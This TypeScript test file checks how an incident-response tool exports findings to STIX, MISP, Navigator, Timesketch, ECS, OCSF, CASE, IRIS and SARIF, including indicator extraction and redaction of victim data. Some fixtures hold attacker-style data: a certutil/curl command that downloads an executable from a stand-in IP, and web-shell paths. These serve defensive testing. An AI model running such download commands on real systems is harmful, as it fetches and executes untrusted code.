import assert from 'node:assert/strict'
import { before, describe, it } from 'node:test'
import { fileURLToPath } from 'node:url'
import { splitCsv } from '../../src/lib/csv.ts'
import { sha256 } from '../../src/lib/hash.ts'
import { uuid5 } from '../../src/lib/uuid.ts'
import type { Assessment } from '../../src/model/assessment.ts'
import type { Actor } from '../../src/model/actor.ts'
import type { Finding } from '../../src/model/finding.ts'
import { loadKnowledge } from '../../src/knowledge/load-packs.ts'
import { technique } from '../../src/reports/shared/attack-technique.ts'
import { nothingNamed, reports, type Sharing } from '../../src/reports/index.ts'
import { mispEvents, mispItems } from '../../src/rules/indicators/misp.ts'
import { stixItems, stixObjects } from '../../src/rules/indicators/stix.ts'
import { empty, fixture, quiet } from './fixture.ts'
import * as schemas from './format-schemas.ts'
import { assessSamples } from './samples.ts'
import { assertValid } from './validate.ts'

const packs = fileURLToPath(new URL('../../packs', import.meta.url))

// What other programs read: their forms are held by the schemas.
type Json = Readonly<Record<string, ReturnType<typeof JSON.parse>>>

const text = (name: string, assessment: Assessment, sharing?: Sharing): string =>
  [...reports.find((report) => report.name === name)!.write(assessment, sharing)].join('')
const json = (name: string, assessment: Assessment, sharing?: Sharing): Json =>
  JSON.parse(text(name, assessment, sharing)) as Json
const lines = (name: string, assessment: Assessment): Json[] =>
  text(name, assessment)
    .split('\n')
    .slice(0, -1)
    .map((line) => JSON.parse(line) as Json)
const table = (written: string): Readonly<Record<string, string>>[] => {
  const [header, ...rows] = written
    .split('\r\n')
    .slice(0, -1)
    .map((row) => splitCsv(row).values)
  return rows.map((row) => Object.fromEntries(header!.map((name, i) => [name, row[i]!])))
}
const named: Sharing = { victim: true, tlp: null }
const withFindings = (...findings: readonly Partial<Finding>[]): Assessment => ({
  ...fixture,
  findings: findings.map((more, i) => ({ ...fixture.findings[1]!, id: `f${i}`, ...more })),
})

const whole = {
  stix: schemas.stixSchema,
  misp: schemas.mispSchema,
  navigator: schemas.navigatorSchema,
  case: schemas.caseSchema,
  iris: schemas.irisSchema,
  sarif: schemas.sarifSchema,
} as const
const byLine = {
  'timesketch-jsonl': schemas.timesketchSchema,
  ecs: schemas.ecsSchema,
  ocsf: schemas.ocsfSchema,
} as const

describe('forms for other programs', () => {
  let server: Assessment
  let benign: Assessment
  before(async () => {
    ;({ server, benign } = await assessSamples())
  })
  const all = (): Record<string, Assessment> => ({ server, benign, fixture, empty, quiet })

  for (const [name, schema] of Object.entries(whole))
    it(`${name}: holds what its specification allows`, () => {
      for (const [of, assessment] of Object.entries(all()))
        for (const sharing of [nothingNamed, named])
          assertValid(schema, json(name, assessment, sharing), `${name} of ${of}`)
    })
  for (const [name, schema] of Object.entries(byLine))
    it(`${name}: every line holds what its specification allows`, () => {
      for (const [of, assessment] of Object.entries(all()))
        for (const line of lines(name, assessment)) assertValid(schema, line, `${name} of ${of}`)
    })

  it('every form for programs but the table of the same data has a schema here', () => {
    const pages = ['html', 'management', 'notices', 'markdown']
    const ours = ['json', 'findings', 'coverage', 'mailboxes', 'csv', 'timesketch-csv', ...pages]
    const known = [...ours, ...Object.keys(whole), ...Object.keys(byLine)]
    assert.deepEqual(
      reports.map(({ name }) => name).filter((name) => !known.includes(name)),
      [],
    )
  })

  it('every technique that a rule of the packs names has its name in src/reports/shared/attack-names.ts', async () => {
    const { infos } = await loadKnowledge({ packs: [packs], rules: [], iocs: [] })
    const ids = new Set([...infos.values()].flatMap(({ attack }) => attack))
    assert.ok(ids.size > 50, String(ids.size))
    assert.deepEqual(
      [...ids].filter((id) => technique(id) === null || technique(id)!.name === id),
      [],
    )
  })

  it('the same assessment gives the same bytes, also when it went through JSON', () => {
    const again = JSON.parse(JSON.stringify(server)) as Assessment
    for (const { name } of reports) assert.equal(text(name, again), text(name, server), name)
  })

  // ---------------------------------------------------------------- STIX

  it('stix: every reference leads somewhere, every id stands once, and the report speaks of all', () => {
    for (const assessment of [server, fixture]) {
      const { objects } = json('stix', assessment, named) as { objects: Json[] }
      const ids = new Set(objects.map(({ id }) => id as string))
      assert.equal(ids.size, objects.length)
      for (const object of objects)
        for (const [key, value] of Object.entries(object))
          if (/_refs?$/.test(key))
            for (const id of [value].flat()) assert.ok(ids.has(id as string), `${object.type}.${key}: ${id}`)
      const report = objects.find(({ type }) => type === 'report')!
      assert.equal(report.object_refs.length, objects.length - 3) // all but itself, the marking and who made it
    }
  })

  it('stix: ids of observables are those of the specification', () => {
    // Examples of STIX 2.1: section 2.9, and section 6.4.
    const of = (type: string, contributing: object): string =>
      `${type}--${uuid5('00abedb4-aa42-466c-9c01-fed23315a9b7', JSON.stringify(contributing))}`
    assert.equal(of('ipv4-addr', { value: '198.51.100.3' }), 'ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4')
    assert.equal(of('domain-name', { value: 'example.com' }), 'domain-name--bedb4899-d24b-5401-bc86-8f6b4cc18ec7')
    const { objects } = json('stix', withFindings({ client: '198.51.100.3' })) as { objects: Json[] }
    assert.ok(objects.some(({ id }) => id === 'ipv4-addr--28bb3599-77cd-5a82-a950-b5bc3caf07c4'))
    assert.equal(
      uuid5('6ba7b810-9dad-11d1-80b4-00c04fd430c8', 'www.example.com'),
      '2ed6657d-e927-568b-95e1-2665a8aea6a2',
    )
  })

  it('stix and misp: what they say to look for is read again by --iocs', () => {
    const stix = [...stixItems(stixObjects(json('stix', server) as never)!)]
    const misp = [...mispItems(mispEvents(json('misp', server) as never)!)]
    for (const items of [stix, misp]) {
      const told = JSON.stringify(items)
      assert.ok(told.includes('203.0.113.177'), told)
      assert.ok(told.includes('60b7ff0815cd9def10c4911b9902fdb5fd2f1c87e0d800730bd7190bde96309c'), told)
    }
  })

  it('stix and misp: what is nobody else’s business, or nobody’s fault, is no indicator', () => {
    const shared = (more: Partial<Finding>): string => {
      const assessment = withFindings({ client: '192.0.2.99', ...more })
      return text('stix', assessment) + text('misp', assessment)
    }
    assert.ok(shared({}).includes('192.0.2.99'))
    assert.ok(shared({ stage: 'attempt' }).includes('192.0.2.99'))
    for (const more of [
      { client: '10.1.2.3' },
      { client: '127.0.0.1' },
      { client: 'fd00::1' },
      { is: 'lead' },
      { is: 'open-lead' },
      { is: 'nothing' },
      { stage: 'recon' },
      { stage: 'context' },
      { notes: ['own scanner: nightly scan'] },
      { notes: ['accepted by J. Doe on 2021-04-01: a test'] },
      { notes: ['a row of another host (MAIL09): it proves nothing about MAIL01'] },
      { notes: ['outside the period that was asked for'] },
    ] as const) {
      const told = shared(more)
      assert.ok(!/192\.0\.2\.99|10\.1\.2\.3|127\.0\.0\.1|fd00::1/.test(told), JSON.stringify(more))
    }
  })

  it('stix: hosts, URLs, pages and files of the attacker become indicators, those of the house do not', () => {
    const digest = 'ab'.repeat(32)
    const assessment = withFindings(
      { facts: { SsrfTo: 'outside', SsrfHost: 'Drop.example.net' } },
      { facts: { SsrfTo: 'internal', SsrfHost: 'mail01.corp.example.org' } },
      { stage: 'shell', facts: { sha256: digest, TargetFilename: 'C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx' } },
      { stage: 'shell', log: 'aspnet-temp', facts: { sha256: 'cd'.repeat(32) } },
      { stage: 'shell', target: '/aspnet_client/x.aspx' },
      { stage: 'shell', target: '/owa/auth/logon.aspx' },
      {
        stage: 'execution',
        facts: { CommandLine: 'certutil -urlcache -f http://198.51.100.9:8080/a.exe & curl http://10.0.0.1/x' },
      },
    )
    const patterns = (json('stix', assessment).objects as Json[]).flatMap(({ pattern }) => pattern ?? [])
    assert.deepEqual(patterns, [
      "[ipv4-addr:value = '203.0.113.77']",
      "[domain-name:value = 'drop.example.net']",
      "[url:value = 'http://198.51.100.9:8080/a.exe']",
      "[network-traffic:extensions.'http-request-ext'.request_value = '/aspnet_client/x.aspx']",
      `[file:hashes.'SHA-256' = '${digest}']`,
    ])
  })

  it('stix and misp: nothing of the victim unless it is asked for', () => {
    const canary = 'zzcanary'
    const finding: Partial<Finding> = {
      host: `${canary}-host`,
      user: `${canary.toUpperCase()}\\${canary}.person`,
      target: `C:\\Users\\${canary}\\page.aspx`,
      stage: 'shell',
      title: `Rule about ${canary}.person`,
      facts: {
        sha256: 'ab'.repeat(32),
        TargetFilename: `C:\\inetpub\\wwwroot\\aspnet_client\\${canary}.aspx`,
        SsrfTo: 'internal',
        SsrfHost: `mail.${canary}.example`,
        ActAsUser: `boss@${canary}.example`,
        CommandLine: `curl http://198.51.100.9/${canary} & curl http://www.${canary}.example/x`,
      },
      locators: [{ ...fixture.findings[0]!.locators[0]!, path: `C/${canary}.log`, raw: `row of ${canary}` }],
    }
    const assessment: Assessment = {
      ...withFindings(finding, { ...finding, target: `/aspnet_client/${canary}.aspx` }),
      server: { ...fixture.server, name: canary },
      verdict: { ...fixture.verdict, sentence: `${canary} was compromised.` },
      mailboxes: [{ ...fixture.mailboxes[0]!, mailbox: `${canary}@${canary}.example`, names: [`/o=${canary}`] }],
    }
    for (const name of ['stix', 'misp']) {
      const told = text(name, assessment)
      assert.ok(!told.toLowerCase().includes(canary), told.slice(Math.max(0, told.toLowerCase().indexOf(canary) - 200)))
      assert.ok(told.includes('ab'.repeat(32)))
      assert.match(told, /3 indicators are left out|2 indicators are left out/)
      const all = text(name, assessment, named)
      assert.ok(all.includes(`${canary}@${canary}.example`) && all.includes(`"${canary}"`))
    }
    // Nor of the sample, whose names are known.
    for (const name of ['stix', 'misp'])
      assert.doesNotMatch(text(name, server), /mail01|contoso|ceo@|legal@|administrator/i)
  })

  it('stix and misp: an actor is named only where the assessment names it', () => {
    const actor = (more: Partial<Actor>): Assessment => ({
      ...fixture,
      actors: [
        {
          id: 'b2c3d4e5',
          actor: 'HAFNIUM (Silk Typhoon)',
          words: 'likely',
          named: true,
          supporting: [],
          contradicting: [],
          intrusions: [],
          references: ['https://example.com/report'],
          ...more,
        },
      ],
    })
    for (const name of ['stix', 'misp']) {
      assert.match(text(name, actor({})), /HAFNIUM/)
      assert.doesNotMatch(text(name, actor({ named: false })), /HAFNIUM|intrusion-set|threat-actor/)
    }
    assert.ok(json('misp', actor({})).Event.Tag.some((tag: Json) => tag.name === 'misp-galaxy:threat-actor="HAFNIUM"'))
  })

  it('stix and misp: the label of the Traffic Light Protocol', () => {
    const label = (sharing: Sharing): readonly string[] => [
      (json('stix', fixture, sharing).objects as Json[])[0]!.name,
      json('misp', fixture, sharing).Event.Tag[0].name,
    ]
    assert.deepEqual(label(nothingNamed), ['TLP:AMBER', 'tlp:amber'])
    assert.deepEqual(label(named), ['TLP:AMBER+STRICT', 'tlp:amber+strict'])
    assert.deepEqual(label({ victim: false, tlp: 'clear' }), ['TLP:CLEAR', 'tlp:clear'])
  })

  // ---------------------------------------------------------------- the others

  it('navigator: the score is that of the weightiest finding', () => {
    const assessment = withFindings(
      { attack: ['T1190'], level: 'low', is: 'lead' },
      { attack: ['T1190', 'not an id'], level: 'high', is: 'yes' },
      { attack: ['T1505.003'], level: 'medium', is: 'lead' },
      { attack: ['T1003'], notes: ['own scanner: ours'] },
    )
    const { techniques } = json('navigator', assessment) as { techniques: Json[] }
    assert.deepEqual(
      techniques.map(({ techniqueID, score }) => [techniqueID, score]),
      [
        ['T1190', 80],
        ['T1505.003', 40],
      ],
    )
  })

  it('timesketch: table and lines tell the same events', () => {
    for (const assessment of [server, fixture]) {
      const rows = table(text('timesketch-csv', assessment))
      const events = lines('timesketch-jsonl', assessment)
      assert.equal(rows.length, events.length)
      for (const [i, event] of events.entries()) {
        assert.equal(rows[i]!.datetime, event.datetime)
        assert.equal(Number(rows[i]!.timestamp), event.timestamp)
        assert.equal(Date.parse(event.datetime) * 1000, event.timestamp)
        assert.equal(rows[i]!.tag, event.tag.join(','))
      }
    }
    const timeless = fixture.findings.filter(({ first, time }) => first === null && time === null).length
    assert.ok(timeless > 0)
    const told = new Set(lines('timesketch-jsonl', fixture).map((event) => event.finding_id))
    told.delete(undefined)
    assert.equal(told.size, fixture.findings.length - timeless)
  })

  it('ecs and ocsf: a line a finding; one without a time says so', () => {
    for (const name of ['ecs', 'ocsf']) assert.equal(lines(name, server).length, server.findings.length)
    const { at, tags } = lines('ecs', fixture)
      .map((line) => ({ at: line['@timestamp'], tags: line.tags as string[] }))
      .at(-1)!
    assert.deepEqual([at, tags.includes('time-unknown')], [new Date(fixture.coverage.last!).toISOString(), true])
    assert.equal(lines('ocsf', fixture).at(-1)!.unmapped.time_unknown, true)
    assert.equal(lines('ocsf', fixture).filter(({ status }) => status === 'Suppressed').length, 1)
  })

  it('case: every input with its digest, and the digests of what was written', () => {
    const graph = json('case', server)['@graph'] as Json[]
    const files = new Map(
      graph
        .filter((node) => node['@type'] === 'uco-observable:File')
        .map(({ 'uco-core:hasFacet': [file, data] }) => [
          file['uco-observable:filePath'] as string,
          data['uco-observable:hash']?.[0]['uco-types:hashValue']['@value'] as string,
        ]),
    )
    for (const { path, sha256: digest } of server.evidence.manifest) assert.equal(files.get(path), digest)
    for (const name of ['json', 'findings', 'coverage', 'mailboxes', 'html']) {
      const { file } = reports.find((report) => report.name === name)!
      assert.equal(files.get(file), sha256(text(name, server)), file)
    }
    const ids = new Set(graph.map((node) => node['@id'] as string))
    const action = graph.find((node) => node['@type'] === 'case-investigation:InvestigativeAction')!
    for (const { '@id': id } of [...action['uco-action:object'], ...action['uco-action:result']]) assert.ok(ids.has(id))
    assert.equal(action['uco-action:object'].length, server.evidence.manifest.length)
  })

  it('iris: events name only assets and indicators of the tables before them', () => {
    for (const assessment of [server, fixture]) {
      const [, assets, iocs, events] = (json('iris', assessment).requests as Json[]).map((request) =>
        table(request.body.CSVData ?? ''),
      )
      const asset = new Set(assets!.map((row) => row.asset_name))
      const ioc = new Set(iocs!.map((row) => row.ioc_value))
      assert.equal(events!.length, assessment.findings.length)
      for (const row of events!) {
        for (const name of row.event_assets!.split(';')) if (name !== '') assert.ok(asset.has(name), name)
        for (const value of row.event_iocs!.split('|')) if (value !== '') assert.ok(ioc.has(value), value)
        assert.match(row.event_date!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}$/)
        assert.ok(row.event_title!.length >= 2)
      }
    }
  })

  it('sarif: results point to the bytes, and no text of the evidence is a placeholder or a link', () => {
    const [run] = json('sarif', server).runs as [Json]
    assert.equal(run.results.length, server.findings.length)
    for (const [i, result] of run.results.entries()) {
      const finding = server.findings[i]!
      const { artifactLocation, region } = result.locations[0].physicalLocation
      assert.equal(decodeURIComponent(artifactLocation.uri), finding.locators[0]!.path)
      assert.equal(decodeURIComponent(run.artifacts[artifactLocation.index].location.uri), finding.locators[0]!.path)
      assert.equal(region.byteOffset, finding.locators[0]!.offset)
      assert.equal(run.tool.driver.rules[result.ruleIndex].id, result.ruleId)
    }
    const message = (json('sarif', withFindings({ target: '{0} [x](http://192.0.2.1) ../../etc' })).runs as [Json])[0]
      .results[0].message.text as string
    assert.ok(message.includes('{{0}} \\[x\\](http://192.0.2.1)'), message)
  })

  // ---------------------------------------------------------------- many findings

  it('50,000 findings come in pieces, and every one of them', () => {
    const [n, addresses] = [50_000, 10_000]
    const one = fixture.findings[1]!
    const many: Assessment = {
      ...fixture,
      intrusions: [],
      findings: Array.from({ length: n }, (_, i) => ({
        ...one,
        id: `f${i}`,
        client: `2001:db8::${(i % addresses).toString(16)}:1`,
      })),
    }
    const perFinding: Readonly<Record<string, RegExp>> = {
      findings: /"id":/g,
      csv: /\r\n/g,
      'timesketch-csv': /\r\n/g,
      'timesketch-jsonl': /"finding_id":/g,
      ecs: /"@timestamp":/g,
      ocsf: /"class_uid":/g,
      sarif: /"ruleIndex":/g,
      iris: /finding f\d+/g,
      misp: /"type":"ip-src"/g,
      stix: /"type":"indicator"/g,
    }
    for (const [name, pattern] of Object.entries(perFinding)) {
      const written = reports.find((report) => report.name === name)!.write(many)
      assert.equal(typeof written, 'object', name)
      let [seen, longest] = [0, 0]
      for (const piece of written as Iterable<string>) {
        seen += piece.match(pattern)?.length ?? 0
        // The report object of STIX names all that it is of; nothing else grows with the findings.
        if (!piece.includes('"object_refs"') || !piece.includes('"type":"report"'))
          longest = Math.max(longest, piece.length)
      }
      const expected = name === 'stix' || name === 'misp' ? addresses : n
      assert.ok(seen >= expected && seen <= expected + 3, `${name}: ${seen}`)
      assert.ok(longest < 1 << 18, `${name}: a piece of ${longest}`)
    }
  })
})
